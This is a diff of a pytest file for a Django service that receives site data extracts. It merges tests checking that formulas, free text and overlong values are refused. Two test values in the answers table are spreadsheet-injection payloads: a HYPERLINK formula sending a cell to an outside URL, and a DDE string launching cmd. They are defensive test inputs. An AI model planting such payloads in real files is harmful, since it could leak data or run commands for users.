@@ -123,46 +123,54 @@ def test_negative_numbers_are_not_taken_for_formulas() -> None:
 # --------------------------------------------------------------------------- receiving
 
 
-def _with_answer(made: ex.Extract, column: str, value: str) -> ex.Extract:
-    answers = made.answers.with_columns(
-        pl.when(pl.int_range(pl.len()) == 0)
-        .then(pl.lit(value))
-        .otherwise(pl.col(column))
-        .alias(column)
+def _tampered(made: ex.Extract, table: str, column: str, value: str) -> ex.Extract:
+    """The extract with ``value`` in ``column`` of the table's first row."""
+    tables = made.tables()
+    first = pl.int_range(pl.len()) == 0
+    tables[table] = tables[table].with_columns(
+        pl.when(first).then(pl.lit(value)).otherwise(pl.col(column)).alias(column)
     )
-    return ex.Extract(made.scores, answers, made.conditions, made.procedures, made.manifest)
+    return ex.Extract(**tables, manifest=made.manifest)
 
 
 @pytest.mark.django_db
 @pytest.mark.parametrize(
-    ("column", "value", "message"),
+    ("table", "column", "value", "message"),
     [
-        ("value", '=HYPERLINK("https://example.com/?"&A1,"3")', "spreadsheet formula"),
-        ("item", "@SUM(1+1)*cmd|' /C calc'!A0", "spreadsheet formula"),
+        ("answers", "value", '=HYPERLINK("https://example.com/?"&A1,"3")', "spreadsheet formula"),
+        ("answers", "item", "@SUM(1+1)*cmd|' /C calc'!A0", "spreadsheet formula"),
         # A model's max_length: PostgreSQL raised DataError inside the transaction (a 500 and
         # no refusal recorded), SQLite stored any length, so free text could ride along.
-        ("value", "mild " * 60, "longer than 200 characters"),
-        ("wording_id", "x" * 201, "longer than 200 characters"),
+        ("answers", "value", "mild " * 60, "longer than 200 characters"),
+        ("answers", "wording_id", "x" * 201, "longer than 200 characters"),
         # Free text in lower case passes the identifier scan; the item's range does not.
-        ("value", "delta demosen, 12 main st", "is not an answer in the item's range"),
-        ("value", "99", "is not an answer in the item's range"),
-        ("item", "note", "is not an item of the instrument"),
+        ("answers", "value", "delta demosen, 12 main st", "is not an answer in the item's range"),
+        ("answers", "value", "99", "is not an answer in the item's range"),
+        ("answers", "item", "note", "is not an item of the instrument"),
+        # Columns of codes hold the data dictionary's codes, not free text.
+        ("scores", "treatment", "talked about her divorce", "not one of the dictionary's codes"),
+        ("scores", "protocol", "see notes", "not one of the dictionary's codes"),
+        ("scores", "wording", "read aloud", "not one of the dictionary's codes"),
+        ("conditions", "code", "fell at home", "is not a diagnosis code"),
+        ("procedures", "kind", "injection by dr hansen", "not one of the dictionary's codes"),
     ],
 )
-def test_a_value_a_spreadsheet_would_run_or_too_long_for_its_column_is_refused(
-    world: dict[str, Any], column: str, value: str, message: str
+def test_a_formula_free_text_or_too_long_a_value_is_refused(
+    world: dict[str, Any], table: str, column: str, value: str, message: str
 ) -> None:
     site: Site = world["sites"]["a"]
     made = services.extract_for_site(site)
     assert made.answers.height
 
     with pytest.raises(ex.InvalidExtract) as refused:
-        services.receive_extract(site, _with_answer(made, column, value))
+        services.receive_extract(site, _tampered(made, table, column, value))
 
     found = [e for e in refused.value.errors if e.field == column and message in e.message]
-    assert [(e.table, e.row) for e in found] == [("answers", 1)]
+    assert [(e.table, e.row) for e in found] == [(table, 1)]
     assert not PooledAnswer.objects.filter(site=site).exists()
     assert Upload.objects.get(site=site).status == "refused"
+    # The extract as it was made is accepted.
+    assert services.receive_extract(site, made).status == "accepted"
 
 
 @pytest.mark.django_db
@@ -290,33 +298,3 @@ def test_an_unreadable_upload_on_the_screen_is_refused_on_the_record(
     refused = Upload.objects.get(site=site)
     assert refused.status == "refused" and "cannot be read" in refused.errors[0]
     assert AuditEntry.objects.filter(code=services.UPLOAD_REFUSED.code).count() == 1
-
-
-@pytest.mark.django_db
-@pytest.mark.parametrize(
-    ("table", "column", "value"),
-    [
-        ("scores", "treatment", "talked about her divorce"),
-        ("scores", "protocol", "see notes"),
-        ("scores", "wording", "read aloud"),
-        ("conditions", "code", "fell at home"),
-        ("procedures", "kind", "injection by dr hansen"),
-    ],
-)
-def test_a_column_of_codes_carries_no_free_text(
-    world: dict[str, Any], table: str, column: str, value: str
-) -> None:
-    site: Site = world["sites"]["a"]
-    made = services.extract_for_site(site)
-    tables = made.tables()
-    first = pl.int_range(pl.len()) == 0
-    tables[table] = tables[table].with_columns(
-        pl.when(first).then(pl.lit(value)).otherwise(pl.col(column)).alias(column)
-    )
-
-    with pytest.raises(ex.InvalidExtract) as refused:
-        services.receive_extract(site, ex.Extract(**tables, manifest=made.manifest))
-
-    assert [(e.table, e.row, e.field) for e in refused.value.errors] == [(table, 1, column)]
-    # As it came: the extract that was not tampered with is accepted.
-    assert services.receive_extract(site, made).status == "accepted"
